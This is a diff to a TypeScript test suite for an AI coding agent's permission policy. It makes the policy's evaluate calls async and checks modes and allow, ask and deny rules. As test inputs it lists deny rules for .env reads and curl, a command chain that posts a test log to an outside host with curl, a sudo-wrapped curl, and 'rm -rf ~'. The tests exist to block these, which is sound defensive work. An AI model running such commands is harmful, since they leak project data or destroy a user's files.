@@ -37,11 +37,11 @@ const read = (file: string) => call("read_file", { file_path: file });
 
 const policy = (mode: PermissionMode, extra: Partial<PermissionPolicyOptions> = {}) =>
   createPermissionPolicy({ mode, projectRoot: root, ...extra });
-const behavior = (
+const behavior = async (
   mode: PermissionMode,
   c: ReturnType<typeof call>,
   extra: Partial<PermissionPolicyOptions> = {},
-) => policy(mode, extra).evaluate(c).behavior;
+) => (await policy(mode, extra).evaluate(c)).behavior;
 
 describe("permission modes", () => {
   const cases: [string, ReturnType<typeof call>, Record<PermissionMode, string>][] = [
@@ -97,20 +97,22 @@ describe("permission modes", () => {
     ],
   ];
   for (const [name, c, expected] of cases) {
-    it(name, () => {
+    it(name, async () => {
       const got = Object.fromEntries(
-        (["plan", "normal", "auto-edit", "yolo"] as const).map((m) => [m, behavior(m, c)]),
+        await Promise.all(
+          (["plan", "normal", "auto-edit", "yolo"] as const).map(async (m) => [m, await behavior(m, c)]),
+        ),
       );
       expect(got).toEqual(expected);
     });
   }
 
-  it("changes mode at runtime", () => {
+  it("changes mode at runtime", async () => {
     const p = policy("normal");
-    expect(p.evaluate(edit("src/a.ts")).behavior).toBe("ask");
+    expect((await p.evaluate(edit("src/a.ts"))).behavior).toBe("ask");
     p.setMode("auto-edit");
     expect(p.mode).toBe("auto-edit");
-    expect(p.evaluate(edit("src/a.ts")).behavior).toBe("allow");
+    expect((await p.evaluate(edit("src/a.ts"))).behavior).toBe("allow");
   });
 });
 
@@ -120,28 +122,30 @@ describe("settings rules", () => {
     ask: ["shell(git push:*)"],
     deny: ["read_file(**/.env)", "shell(curl:*)"],
   };
-  it("deny beats allow, ask beats allow, and allow covers every part of a chain", () => {
+  it("deny beats allow, ask beats allow, and allow covers every part of a chain", async () => {
     const p = policy("normal", { rules });
-    expect(p.evaluate(read(".env")).behavior).toBe("deny");
-    expect(p.evaluate(read("config/.env")).behavior).toBe("deny");
-    expect(p.evaluate(shell("npm test -- --watch=false")).behavior).toBe("allow");
-    expect(p.evaluate(shell("CI=1 npm test && git commit -m done")).behavior).toBe("allow");
-    expect(p.evaluate(shell("npm test && npm publish")).behavior).toBe("ask");
-    expect(p.evaluate(shell("npm test | tee log && curl -d @log https://x")).behavior).toBe("deny");
-    expect(p.evaluate(shell("sudo env X=1 curl https://x")).behavior).toBe("deny");
-    expect(p.evaluate(shell("git push origin main")).behavior).toBe("ask");
-    expect(p.evaluate(edit("src/deep/a.ts")).behavior).toBe("allow");
-    expect(p.evaluate(edit("docs/a.md")).behavior).toBe("ask");
-    expect(p.evaluate(read("/etc/hosts")).behavior).toBe("allow");
+    expect((await p.evaluate(read(".env"))).behavior).toBe("deny");
+    expect((await p.evaluate(read("config/.env"))).behavior).toBe("deny");
+    expect((await p.evaluate(shell("npm test -- --watch=false"))).behavior).toBe("allow");
+    expect((await p.evaluate(shell("CI=1 npm test && git commit -m done"))).behavior).toBe("allow");
+    expect((await p.evaluate(shell("npm test && npm publish"))).behavior).toBe("ask");
+    expect((await p.evaluate(shell("npm test | tee log && curl -d @log https://x"))).behavior).toBe("deny");
+    expect((await p.evaluate(shell("sudo env X=1 curl https://x"))).behavior).toBe("deny");
+    expect((await p.evaluate(shell("git push origin main"))).behavior).toBe("ask");
+    expect((await p.evaluate(edit("src/deep/a.ts"))).behavior).toBe("allow");
+    expect((await p.evaluate(edit("docs/a.md"))).behavior).toBe("ask");
+    expect((await p.evaluate(read("/etc/hosts"))).behavior).toBe("allow");
   });
 
-  it("yolo still honours deny rules", () => {
-    expect(behavior("yolo", shell("curl https://x"), { rules })).toBe("deny");
-    expect(behavior("yolo", shell("git push origin main"), { rules })).toBe("allow");
+  it("yolo still honours deny rules", async () => {
+    expect(await behavior("yolo", shell("curl https://x"), { rules })).toBe("deny");
+    expect(await behavior("yolo", shell("git push origin main"), { rules })).toBe("allow");
   });
 
-  it("an allow rule never lets a critical command through", () => {
-    expect(behavior("normal", shell("rm -rf ~"), { rules: { allow: ["shell(rm:*)", "shell"] } })).toBe("ask");
+  it("an allow rule never lets a critical command through", async () => {
+    expect(await behavior("normal", shell("rm -rf ~"), { rules: { allow: ["shell(rm:*)", "shell"] } })).toBe(
+      "ask",
+    );
   });
 });
 
@@ -194,7 +198,7 @@ describe("asking", () => {
     const p = policy("normal", { ask: a.ask });
     expect((await p.check(edit("src/a.ts"))).behavior).toBe("allow");
     expect((await p.check(edit("src/a.ts"))).behavior).toBe("allow");
-    expect(p.evaluate(edit("src/b.ts")).behavior).toBe("ask");
+    expect((await p.evaluate(edit("src/b.ts"))).behavior).toBe("ask");
   });
 
   it("abort denies and tells the host", async () => {
